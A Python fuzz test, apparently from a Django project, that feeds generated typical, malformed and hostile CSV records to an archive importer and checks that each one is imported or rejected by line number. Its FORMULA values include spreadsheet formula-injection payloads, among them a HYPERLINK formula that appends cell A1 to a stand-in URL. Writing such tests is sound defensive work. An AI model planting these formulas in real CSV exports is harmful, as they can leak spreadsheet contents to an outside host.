"""The fast layer for the archive import: FUZZ_FORM_EXAMPLES generated records (typical, odd and hostile
values; =formulas, NUL, quotes and line breaks in cells; too few or too many cells; lines in another
encoding or of raw bytes), each an independent input, gathered into files of ROWS_PER_FILE records after
a valid header and imported on the run's backend with `skip_invalid`. Every record is either imported
or named with its line number in the rejects file, and a refused record writes nothing.

A record that breaks the file itself (a quote never closed, a lone CR outside quotes) cannot share a
file with others: one example in twenty-five is such a line, imported in a small file of its own, which
is refused whole with a line number and leaves the archive as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.importing import import_csv
from archive.models import ArchiveRecord, ImportBatch
from tests.fuzz.layer import FAST, rolled_back
from tests.fuzz.strategies import ANY_CHAR
from tests.fuzz.test_archive_import import archive, cell
from tests.import_files import HEADER, good_rows, row, write

pytestmark = pytest.mark.django_db
ROWS_PER_FILE = 2_000
PEOPLE = [("Ямашита", "Кийоси"), ("Сато", "Кадзуо"), ("Ватанабэ", "Синъити"), ("Кобаяши", "Хироши")]
FORMULA = st.sampled_from(['=HYPERLINK("http://example.com/?"&A1)', "=1+1", "+7", "-2", "@SUM(A1)", "\t=x"])


def line(cells: list[str], terminator: str) -> str:
    """One CSV record; written with CRLF so that a CR or LF in a cell is always quoted."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(cells)
    return out.getvalue()[:-2] + terminator


@st.composite
def record(draw) -> tuple:
    """A record without its source id (the test puts a new one first): ("row", text of its cells,
    encoding) or ("raw", bytes of one line)."""
    kind = draw(st.integers(1, 24))
    if kind == 1:
        raw = draw(st.binary(max_size=300)).translate(None, b'"\r\n')
        return "raw", raw
    if kind == 2:
        text = draw(st.text(ANY_CHAR, max_size=200)).translate({ord(c): None for c in '"\r\n'})
        return "raw", text.encode("utf-8", "surrogatepass")
    values = row("", *draw(st.sampled_from(PEOPLE)))  # a record the import takes, then a few cells spoiled
    for column in draw(st.lists(st.sampled_from(HEADER[1:]), max_size=3, unique=True)):
        values[column] = draw(FORMULA if draw(st.integers(0, 9)) == 0 else cell(column))
    cells = [values[column] for column in HEADER[1:]]
    how = draw(st.integers(0, 19))
    if how == 0:
        cells = cells[: draw(st.integers(0, len(cells)))]  # too few cells
    elif how == 1:
        cells += draw(st.lists(cell("x"), min_size=1, max_size=3))  # too many
    return (
        "row",
        line(cells, draw(st.sampled_from(["\r\n", "\n"]))),
        draw(st.sampled_from(["utf-8"] * 17 + ["cp932", "latin-1", "euc-jp"])),
    )


@st.composite
def breaking(draw) -> str:
    """A record that breaks the file: a quote never closed or a lone CR outside quotes."""
    good = line([*good_rows(1)[0].values()][1:], "\n")
    return good.replace(",", "," + draw(st.sampled_from(['"unclosed,', "a\rb,", "\r", 'x,"y'])), 1)


def header() -> bytes:
    return line(HEADER, "\r\n").encode()


def import_file(path, data: bytes) -> ImportBatch:
    path.write_bytes(data)
    return import_csv(path, skip_invalid=True, rejects_path=path.with_suffix(".rejects.csv"))


def rejected_lines(path) -> dict[int, str]:
    with open(path.with_suffix(".rejects.csv"), encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))[1:]
    return {int(row[0]): row[1] for row in rows}


def check_file(path, rows: list[tuple[str, bytes]], outcomes) -> None:
    """Import one file of records and check each: imported, or refused by line and nothing written."""
    data, starts = header(), {}
    for source_id, body in rows:
        starts[source_id] = data.count(b"\n") + 1
        data += body
    with rolled_back():
        batch = import_file(path, data)
        assert batch.state == ImportBatch.State.DONE, batch.errors[:3]
        assert batch.rows_done == len(rows)
        assert batch.created + batch.updated + batch.unchanged + batch.rejected == len(rows)
        refused = rejected_lines(path) if batch.rejected else {}
        assert set(refused) <= set(starts.values()) and all(refused.values())
        kept = set(
            ArchiveRecord.objects.filter(source_id__startswith="FZ-").values_list("source_id", flat=True)
        )
        for source_id, start in starts.items():
            if start in refused:
                assert source_id not in kept, (start, refused[start])
                outcomes["refused"] += 1
            else:
                assert source_id in kept, (start, dict(rows)[source_id])
                outcomes["taken"] += 1
        assert batch.created == len(kept) == len(rows) - len(refused)


def test_fast_every_generated_record_is_imported_or_refused_by_its_line(tmp_path, form_outcomes):
    import_csv(write(tmp_path / "existing.csv", good_rows(2)))  # records the generated ones may meet
    pending: list[tuple[str, bytes]] = []
    numbers = iter(range(10**9))

    @FAST
    @given(drawn=record(), broken=breaking())
    def generate(drawn, broken):
        n = next(numbers)
        source_id = f"FZ-{n}"
        if n % 25 == 0:  # one input in twenty-five breaks the file
            before = archive()
            with rolled_back():
                path = tmp_path / f"breaking-{n}.csv"
                batch = import_file(path, header() + f"{source_id},{broken}".encode())
                assert batch.state == ImportBatch.State.FAILED and batch.errors[0]["line"] >= 1
                assert archive() == before
            form_outcomes["refused"] += 1
            return
        if drawn[0] == "raw":
            pending.append((source_id, source_id.encode() + b"," + drawn[1] + b"\n"))
        else:
            pending.append((source_id, f"{source_id},{drawn[1]}".encode(drawn[2], "replace")))

    generate()
    for i in range(0, len(pending), ROWS_PER_FILE):
        check_file(tmp_path / f"generated-{i}.csv", pending[i : i + ROWS_PER_FILE], form_outcomes)
    files = -(-len(pending) // ROWS_PER_FILE)
    print(f"\n{len(pending)} records in {files} files, {form_outcomes.total() - len(pending)} files breaking")
